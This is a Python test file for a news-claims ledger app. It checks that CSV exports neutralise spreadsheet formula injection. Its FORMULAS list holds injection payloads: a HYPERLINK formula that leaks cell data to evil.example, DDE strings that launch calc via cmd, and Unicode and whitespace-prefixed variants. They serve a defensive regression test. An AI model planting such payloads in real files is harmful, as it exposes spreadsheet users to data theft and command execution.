"""Threat 8: no cell of an exported table is a formula, and no negative number is made a text."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

from starlette.testclient import TestClient

import papertiger
from papertiger.ledger import Ledger
from papertiger.news.article import Article
from papertiger.news.loading import load
from papertiger.readers.frames import FrameReader
from papertiger.samples import paths
from papertiger.settings import Settings

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
)
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def test_a_table_from_the_app_holds_no_formula(ledger_file: Path, client: TestClient) -> None:
    settings = Settings(ledger=str(ledger_file))
    reader = FrameReader(settings)
    article = next(one for one in load(paths()) if isinstance(one, Article) and reader.read(one).claims)
    with Ledger.open(ledger_file) as ledger:
        for number, formula in enumerate(FORMULAS):
            about = replace(article.metadata, outlet=formula, title=formula, author=formula, url=formula)
            made = reader.read(replace(article, metadata=about, path=f"{formula}{number}"))
            claims = tuple(
                replace(
                    claim,
                    record=claim.record.model_copy(
                        update={
                            "place": formula,
                            "time": claim.record.time.model_copy(update={"words": formula}),
                            "attribution": tuple(
                                step.model_copy(update={"name": formula}) for step in claim.record.attribution
                            ),
                        }
                    ),
                )
                for claim in made.claims
            )
            assert ledger.add(replace(made, claims=claims))
    answer = client.get("/api/v1/export/csv")
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    assert "attachment" in answer.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(answer.text.removeprefix("\ufeff"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert sum("HYPERLINK" in cell for cell in cells) > 0
    for cell in cells:
        assert not cell.startswith(STARTS) or _is_number(cell), cell


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return cell.isascii()


def test_the_same_holds_for_the_python_interface(ledger_file: Path) -> None:
    with papertiger.open(ledger_file, write=False) as bench:
        stream = io.StringIO()
        bench.export("csv", papertiger.ledger.ClaimFilter(), stream)
    assert not any(
        cell.startswith(STARTS) and not _is_number(cell) for row in csv.reader(io.StringIO(stream.getvalue())) for cell in row
    )  # fmt: skip
